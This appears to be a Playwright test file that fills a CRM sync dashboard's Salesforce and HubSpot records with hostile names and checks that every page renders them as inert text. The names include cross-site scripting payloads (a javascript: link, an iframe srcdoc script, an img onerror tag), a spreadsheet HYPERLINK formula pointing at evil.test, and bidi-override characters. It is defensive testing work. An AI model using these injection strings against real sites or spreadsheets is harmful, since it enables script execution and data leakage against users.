"""A world whose every text is an attack, brought in through both CRMs: nothing runs, nothing pops up, it is only text."""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import expect

from browser.test_pages import FAINT, STUMBLES, TOO_WIDE
from browser.visitor import PHONE, visiting
from hostile_texts import EVIL, MARK, poison

# U+202E turns what follows around, U+2066 is never closed, U+200B is not seen.
NAMES = (
    EVIL,
    f"javascript:{MARK}()//",
    f'=HYPERLINK("http://evil.test/?{MARK}")',
    f"\u202egnp.{MARK}\u2066\u200b",
    f"{MARK}{'w' * 200}",
    f"--><!--{MARK}]]></title></textarea><iframe srcdoc='<script>top.{MARK}()</script>'>",
)
TRAP = f"window.caught = []; window.{MARK} = () => {{ window.caught.push(1); alert(1); }};"


@pytest.fixture(scope="module")
def hostile(live):
    """Every account and company is renamed by a person, a run carries that over, and the rest is put into the warehouse."""
    state = live.stage.control("state", full=1)
    for n, it in enumerate(it for it in state["salesforce"]["Account"] if not it["IsDeleted"]):
        values = {"Name": f"{NAMES[n % len(NAMES)]}{n}"[:255], "Website": f"javascript:{MARK}()"}
        live.person("salesforce", "update", object="Account", id=it["Id"], values=values)
    paired = {it["company_id"] for it in live.database.rows("SELECT company_id FROM sync.pairs WHERE is_active")}
    for n, it in enumerate(it for it in state["hubspot"]["companies"] if not it["archived"]):
        if it["hs_object_id"] not in paired:
            values = {"name": f"{NAMES[n % len(NAMES)]}{n}"}
            live.person("hubspot", "update", object="companies", id=it["hs_object_id"], values=values)
    live.run()
    poison(live.database)
    return live


@pytest.fixture(scope="module")
def pages(hostile):
    """Path and query of every page, over a record, a question and runs of that world."""
    run = hostile.value(
        "SELECT run_id FROM sync.decisions JOIN sync.runs USING (run_id) WHERE action = 'LINK' ORDER BY started_at LIMIT 1"
    )
    newest = hostile.value(
        "SELECT run_id FROM sync.runs WHERE plan_digest IS NOT NULL ORDER BY started_at DESC LIMIT 1"
    )
    account = hostile.value("SELECT account_id FROM sync.pairs WHERE is_active ORDER BY 1 LIMIT 1")
    review = hostile.value("SELECT id FROM sync.reviews ORDER BY state = 'open' DESC, id LIMIT 1")
    return [
        ("", {}), ("records", {"q": MARK}), ("records", {"q": EVIL[:200]}), ("records", {"q": account}),
        ("plan", {"run": run}), ("plan", {"run": newest}), ("plan/fields", {"run": run}), ("reviews", {}),
        ("reviews", {"state": "answered"}), ("reviews/one", {"id": review}), ("errors", {}), ("runs", {}),
        ("runs/one", {"run": run}), ("runs/one", {"run": newest}), ("settings", {}), ("plan", {"run": EVIL}),
    ]  # fmt: skip


def test_nothing_but_text(hostile, browser, pages):
    shown = 0
    with visiting(browser, hostile.site) as guest:
        guest.page.add_init_script(TRAP)
        for path, query in pages:
            page = guest.open(path, **query)
            assert page.evaluate("window.caught") == [], path
            assert page.locator("img, iframe, object, embed, base, script:not([src]), [onerror], [onload]").count() == 0
            assert page.locator("a:not([href^='/accord/']):not([href^='/dags/']):not([href^='http'])").count() == 1
            assert page.evaluate(STUMBLES) == []
            assert page.evaluate(FAINT) == []
            shown += page.locator("body").inner_text().count(f"<img src=x onerror={MARK}()>")
            for details in page.locator("summary").all():
                details.click()
        assert shown > 50, "the attacks were not there to be seen"
        guest.was_quiet()


def test_long_texts_stay_within_a_phone(hostile, browser, pages):
    with visiting(browser, hostile.site, viewport=PHONE) as guest:
        for path, query in pages:
            assert guest.open(path, **query).evaluate(TOO_WIDE) <= 0, path


def test_a_text_that_runs_backwards_turns_nothing_around_it(hostile, browser):
    """Otherwise an id after such a name would be read as another one."""
    with visiting(browser, hostile.site) as guest:
        page = guest.open(
            "records",
            q=hostile.value("SELECT id FROM staging.salesforce_accounts WHERE position('gnp' IN name) > 0 LIMIT 1"),
        )
        expect(page.locator("#card h2").first).to_contain_text("\ufffdgnp")
        for path in ("records?q=" + MARK, "plan", "runs", "reviews"):
            assert not re.search("[\u202a-\u202e\u2066-\u2069]", guest.open(path).locator("body").inner_text()), path


def test_buttons_still_do_what_they_say(hostile, ann):
    """The pages hold attacks, and their forms are sent unharmed."""
    page = ann.open("errors")
    said = ann.confirm(page.locator("[data-opens=retry-all]"), "Retry")
    expect(said).to_contain_text("tried again by the next run")
    page = ann.open("reviews")
    page.locator("#reviews a").first.click()
    page.get_by_role("button", name="Leave it as it is").click()
    expect(page.locator("#state")).to_contain_text("Ann")
